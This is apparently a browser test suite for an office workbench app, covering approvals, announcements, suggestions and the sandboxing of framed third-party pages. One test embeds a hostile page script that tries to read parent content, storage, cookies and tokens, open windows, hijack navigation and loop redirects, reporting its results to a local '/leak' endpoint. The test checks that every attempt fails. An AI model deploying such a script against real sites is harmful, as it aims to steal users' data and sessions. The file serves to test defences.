// The workbench in the browser: a morning by pointer, the approval page in its frame, and a page of others that is hostile.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import type { Office } from '#sdk/office.ts';
import { hasBrowser, openStage, type Stage } from './gui/browser-office.ts';

const there = hasBrowser('gui-workbench');
let stage: Stage;
let page: Page;
let mine: Office;
let other: Office;
let power: Office;
let server: Server;
let hostile = '';
/** What the hostile page got hold of, told by itself; and everything it was asked with. */
const leaks: string[] = [];
const asked: { url: string; headers: Record<string, unknown> }[] = [];

/** Tries everything that a page in a frame may try, and tells its own server what it got. */
const hostilePage = `<!doctype html><title>x</title><script>
const told = (what) => fetch('/leak?' + encodeURIComponent(what), { mode: 'no-cors' });
const attempt = (name, work) => { try { const got = work(); told(name + '=' + String(got)); } catch { told(name + '=refused'); } };
attempt('parent', () => parent.document.body.innerText);
attempt('storage', () => parent.localStorage.length);
attempt('own storage', () => localStorage.length);
attempt('cookie', () => document.cookie);
attempt('opened', () => window.open('/opened') === null ? 'refused' : 'a window');
attempt('top', () => { top.location.href = '/top'; return 'asked'; });
attempt('name', () => { parent.location = '/parent'; return 'asked'; });
attempt('download', () => { const a = document.createElement('a'); a.href = '/d'; a.download = 'x'; a.click(); return 'asked'; });
attempt('blank', () => { const a = document.createElement('a'); a.href = '/blank'; a.target = '_blank'; a.click(); return 'asked'; });
attempt('popup', () => { alert(1); return 'asked'; });
addEventListener('message', (event) => told('answered=' + JSON.stringify(event.data)));
for (const data of ['token', { type: 'getToken' }, { kind: 'call', method: 'todo.list' }, { id: 1, call: 'account.token' }])
  parent.postMessage(data, '*');
setTimeout(() => { location.href = '/again?1'; }, 300);
</script>`;

beforeAll(async () => {
  if (!there) return;
  server = createServer((request, answer) => {
    const { url = '/', headers } = request;
    asked.push({ url, headers });
    if (url.startsWith('/leak?')) leaks.push(decodeURIComponent(url.slice(6)));
    const round = /^\/again\?(\d+)$/u.exec(url)?.[1];
    // Without end: each page leads to the next.
    if (round !== undefined)
      return void answer
        .writeHead(200, { 'content-type': 'text/html' })
        .end(`<script>setTimeout(() => location.replace('/again?${Number(round) + 1}'), 20)</script>`);
    return void answer.writeHead(200, { 'content-type': 'text/html' }).end(hostilePage);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  hostile = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  stage = await openStage();
  page = await stage.page('shenzhixing', { timezoneId: 'Asia/Shanghai' });
  mine = await stage.client('shenzhixing');
  other = await stage.client('linruoxi');
  const root = stage.office.accounts.find(({ role }) => role === 'superAdministrator');
  power = await stage.client(root?.loginname ?? '');
});
afterAll(async () => {
  if (!there) return;
  await stage.close();
  server.closeAllConnections();
  server.close();
});

/** Somebody asks for something that shenzhixing decides. */
async function request(reason: string): Promise<string> {
  const { id } = await mine.contacts.personByLoginName('shenzhixing');
  const plan = {
    key: 'journey',
    name: { zh: '用章', en: 'Seal' },
    detail: { zh: '', en: '' },
    icon: 'approval',
    hue: 0,
    prefix: 'JR',
    titleFields: ['reason'],
    fields: [{ key: 'reason', label: { zh: '事由', en: 'Reason' }, kind: 'text' as const, required: true }],
    steps: [
      {
        key: 'first',
        name: { zh: '审批', en: 'Decide' },
        kind: 'decide' as const,
        need: 'any' as const,
        actor: { kind: 'person' as const, personIds: [id] },
      },
    ],
  };
  const known = (await other.approval.forms()).find(({ key }) => key === 'journey');
  if (known === undefined) await power.approval.putForm({ plan });
  return (await other.approval.submit('journey', { values: { reason } })).id;
}
const stateOf = async (id: string): Promise<string> => (await other.approval.get(id)).state;
const open = async (path: string): Promise<void> => {
  await page.goto(`${stage.office.url}${path}`);
};
async function announced(title: string): Promise<string> {
  const { id } = await mine.contacts.personByLoginName('shenzhixing');
  const audience = [{ kind: 'person' as const, id }];
  return (
    await power.announcements.publish({ title, body: { markdown: '正文' }, audience, mustConfirm: true })
  ).id;
}

test.skipIf(!there)(
  'a morning by pointer: a request approved, an announcement confirmed, a suggestion answered',
  async () => {
    const id = await request('借阅档案用印');
    const announcement = await announced('消防演练');
    await open('/main/apps');
    await page.locator('.tg-todo-row', { hasText: '借阅档案用印' }).click();
    await page.locator('.tg-approval-acts').getByRole('button', { name: '同意' }).click();
    await expect.poll(() => stateOf(id)).toBe('approved');
    await page.getByText('消防演练').first().click();
    const row = page.locator('.tg-todo-row[aria-selected=true]');
    if ((await row.count()) > 0) await page.locator('.tg-detail__acts button').first().click();
    await page.waitForURL(`**/main/announcements/${announcement}`);
    await page.locator('.tg-announcement__foot button').click();
    await expect.poll(async () => (await mine.announcements.get(announcement)).confirmed).toBe(true);
    await open('/main/suggestion');
    const { id: suggestion } = await mine.suggestions.send({ text: '食堂能不能早些开门' });
    await page.getByText('食堂能不能早些开门').waitFor();
    const card = page.locator('.tg-suggestion', { hasText: '食堂能不能早些开门' });
    await card.locator('input').last().fill('七点就好');
    await card.locator('form button').last().click();
    await expect.poll(async () => (await mine.suggestions.get(suggestion)).replies.length).toBe(1);
  },
);

test.skipIf(!there)(
  'the approval page of the organisation stands in a frame of its own origin and decides',
  async () => {
    const id = await request('框里的用印');
    await power.admin.setParameter('sys_pc_client_params', 'workflow_approval_page', '/approval-page');
    await open('/main/approval');
    const frame = page.frameLocator('iframe.tg-outside');
    await frame.getByRole('heading', { name: '待我审批' }).waitFor();
    const request1 = frame.locator('article', { hasText: '框里的用印' });
    await request1.getByRole('button', { name: '同意' }).click();
    await frame.getByRole('status').waitFor();
    await expect.poll(() => stateOf(id)).toBe('approved');
    expect(await page.locator('iframe.tg-outside').getAttribute('sandbox')).toBe('allow-scripts allow-forms');
    await power.admin.setParameter('sys_pc_client_params', 'workflow_approval_page', undefined);
  },
);

test.skipIf(!there)(
  'a hostile page gets nothing: not our page, not a window, not a token, and it may not keep us',
  async () => {
    const category = await power.apps.putCategory({ name: { zh: '外部', en: 'Outside' } });
    const audience = [{ kind: 'everybody' as const }];
    const plan = { categoryId: category.id, kind: 'page' as const, audience };
    const app = await power.apps.put({
      ...plan,
      name: { zh: '恶意页面', en: 'Hostile' },
      target: `${hostile}/`,
    });
    await open(`/main/apps/open/${app.id}`);
    const here = page.url();
    await expect
      .poll(() => asked.filter(({ url }) => url.startsWith('/again?')).length, { timeout: 60_000 })
      .toBeGreaterThan(5);
    expect(page.url()).toBe(here);
    expect(page.context().pages().length).toBe(1);
    expect(leaks.length).toBeGreaterThan(6);
    expect(leaks.filter((leak) => !/=(?:refused|asked|null)?$/u.test(leak))).toEqual([]);
    expect(leaks.some((leak) => leak.startsWith('answered='))).toBe(false);
    const heads = JSON.stringify(asked.map(({ headers }) => Object.keys(headers)));
    for (const name of ['authorization', 'cookie', 'referer'])
      expect(heads.includes(`"${name}"`), name).toBe(false);
    const said = JSON.stringify(asked);
    for (const word of ['thirdToken', 'hhid_']) expect(said.includes(word), word).toBe(false);
    const urls = asked.map(({ url }) => url);
    for (const path of ['/opened', '/top', '/parent', '/blank', '/d']) expect(urls).not.toContain(path);
    // It goes on without end, and we leave it all the same.
    await page.getByRole('button', { name: '返回' }).first().click();
    await page.waitForURL('**/main/apps');
  },
);

test.skipIf(!there)('an app that was removed says so', async () => {
  await open('/main/apps/open/999999');
  await page.getByText('应用已被移除或没有权限').first().waitFor();
});
